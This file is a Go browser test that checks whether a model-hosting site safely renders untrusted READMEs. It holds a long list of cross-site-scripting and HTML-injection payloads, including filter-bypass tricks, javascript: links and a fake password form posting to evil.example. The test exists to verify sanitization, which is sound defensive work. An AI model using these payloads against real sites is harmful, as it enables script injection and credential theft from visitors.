package browser_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stoa-project/stoa/client"
)

// payloads are READMEs that try to run a script, load something from elsewhere,
// or take the page over. Whatever runs sets window.ran.
var payloads = map[string]string{
	"script":             `<script>window.ran = 1</script>`,
	"script of two":      `<scr<script>ipt>window.ran = 1</scr</script>ipt>`,
	"script in a table":  "| a |\n|---|\n| <script>window.ran = 1</script> |",
	"script src":         `<script src="/files/demo/payload/samples/x.js"></script>`,
	"onerror":            `<img src=x onerror="window.ran = 1">`,
	"onerror, markdown":  `![x](x" onerror="window.ran=1)`,
	"onerror in alt":     `![x" onerror="window.ran = 1](x.png)`,
	"onload":             `<body onload="window.ran = 1">`,
	"onfocus":            `<input autofocus onfocus="window.ran = 1">`,
	"ontoggle":           `<details open ontoggle="window.ran = 1"><summary>x</summary></details>`,
	"onanimationstart":   `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="window.ran = 1">x</b>`,
	"svg":                `<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>`,
	"svg animate":        `<svg><a><animate attributeName="href" values="javascript:window.ran=1"/><text>x</text></a></svg>`,
	"svg foreignObject":  `<svg><foreignObject><iframe srcdoc="<script>parent.ran = 1</script>"></iframe></foreignObject></svg>`,
	"math":               `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">`,
	"noscript":           `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`,
	"template":           `<template><script>window.ran = 1</script></template>`,
	"iframe":             `<iframe src="javascript:parent.ran = 1"></iframe>`,
	"iframe srcdoc":      `<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>`,
	"object":             `<object data="data:text/html,<script>parent.ran = 1</script>"></object><embed src="javascript:window.ran=1">`,
	"base":               `<base href="https://evil.example/">`,
	"meta":               `<meta http-equiv="refresh" content="0;url=javascript:window.ran=1">`,
	"form":               `<form action="https://evil.example/"><button>Sign in</button><input type="password" name="key"></form>`,
	"style":              `<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">`,
	"style attribute":    `<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">x</p>`,
	"id":                 `<a id="console" name="getElementById">x</a>`,
	"link":               `[click](javascript:window.ran=1)`,
	"link in capitals":   `[click](JaVaScRiPt:window.ran=1)`,
	"link with entities": `[click](&#106;avascript&colon;window.ran=1)`,
	"link with a tab":    "[click](<java\tscript:window.ran=1>)",
	"link with a byte":   "[click](<\x01javascript:window.ran=1>)",
	"link by reference":  "[click][x]\n\n[x]: javascript:window.ran=1 \"t\"",
	"link, angled":       `<javascript:window.ran=1>`,
	"link, html":         `<a href="javascript:window.ran=1">click</a><a href=" javascript:window.ran=1">click</a>`,
	"link, vbscript":     `[click](vbscript:window.ran=1) [click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4=)`,
	"link in a link":     `[a[b](javascript:window.ran=1)](javascript:window.ran=1)`,
	"link title":         `[click](/ "x\" onclick=\"window.ran=1")`,
	"picture from afar":  `![x](https://evil.example/x.png) ![x](//evil.example/x.png)`,
	"picture, data":      `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>)`,
	"code":               "```html\n<script>window.ran = 1</script>\n```\n\n    <img src=x onerror=window.ran=1>",
	"fence":              "```\"><script>window.ran=1</script>\nx\n```",
	"entities":           `&lt;script&gt;window.ran = 1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;`,
	"comment":            `<!--><script>window.ran = 1</script>--> <![CDATA[<script>window.ran = 1</script>]]>`,
	"open comment":       `<!-- <script>window.ran = 1</script>`,
	"open attribute":     `<img src="x`,
	"close the page":     `</section></main></body></html><script>window.ran = 1</script>`,
	"heading":            "# <img src=x onerror=window.ran=1>\n\n<h1 onclick=window.ran=1>x</h1>",
	"null byte":          "<scr\x00ipt>window.ran = 1</script>",
	"not utf-8":          "\xff<\xfescript>window.ran = 1</script>",
	"template actions":   `{{define "main"}}<script>window.ran = 1</script>{{end}} {{.}} ${window.ran = 1}`,
}

// suspicious finds what a README may never become.
const suspicious = `(() => {
	const bad = [];
	for (const e of document.querySelectorAll(".readme *")) {
		if (!/^(H[2-6]|P|BR|HR|BLOCKQUOTE|UL|OL|LI|PRE|CODE|EM|STRONG|DEL|TABLE|THEAD|TBODY|TR|TH|TD|SPAN|DIV|A|IMG)$/.test(e.tagName)) bad.push(e.outerHTML);
		for (const a of e.attributes) {
			if (!/^(class|tabindex|align|start|alt|src|href|rel)$/.test(a.name)) bad.push(e.outerHTML);
		}
		if (e.tagName === "A" && e.hasAttribute("href") && !/^(https?|mailto):$/.test(e.protocol)) bad.push(e.outerHTML);
		if (e.tagName === "IMG" && new URL(e.src || "/", location).origin !== location.origin) bad.push(e.outerHTML);
	}
	return bad;
})()`

// TestReadmesRunNothing publishes what strangers may write, and looks at it in
// the browser: nothing has run, nothing came from elsewhere, and clicking does
// nothing either. That the policy of the site would stop it all the same does
// not count: then the browser complains, which fails the test.
func TestReadmesRunNothing(t *testing.T) {
	s := start(t)
	b := open(t, s.URL())
	b.allow("status of 404") // pictures that are not in the bundle
	for name, text := range payloads {
		as := "demo/p" + strings.Map(func(r rune) rune {
			if 'a' <= r && r <= 'z' {
				return r
			}
			return '_'
		}, name)
		readme := "Before.\n\n" + text + "\n\nAfter.\n"
		if _, err := s.Push(t.Context(), client.PushRequest{
			As: as, Manifest: "kind: model\nvisibility: public\nmodel:\n  files: [net.prototxt]\n",
			Files: []client.PushFile{{Name: "net.prototxt", Path: "../../bench/four/net.prototxt"}, {Name: "README.md", Data: []byte(readme)}},
		}); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		b.visit("/algorithms/" + as)
		b.wait(".readme")
		for _, html := range get[[]string](b, suspicious) {
			t.Errorf("%s became %s", name, html)
		}
		get[bool](b, `(() => { addEventListener("click", e => e.target.closest("a")?.protocol.startsWith("http") && e.preventDefault());
			for (const e of document.querySelectorAll(".readme *")) e.click(); return true; })()`)
		if get[bool](b, `"ran" in window`) {
			t.Errorf("%s ran", name)
		}
		// The page is still whole around it.
		if !get[bool](b, `document.querySelector(".readme").closest("main") !== null && document.querySelectorAll("main").length === 1 && document.querySelector("#console") instanceof HTMLElement && document.querySelector("#run") !== null`) {
			t.Errorf("%s took the page over: %s", name, get[string](b, "document.body.innerHTML"))
		}
		if faults := b.wrong(); len(faults) > 0 {
			t.Errorf("%s: %v", name, faults)
			b.allow(faults...)
		}
	}
	if n := len(payloads); n < 40 {
		t.Error(fmt.Sprint("only ", n, " payloads"))
	}
}
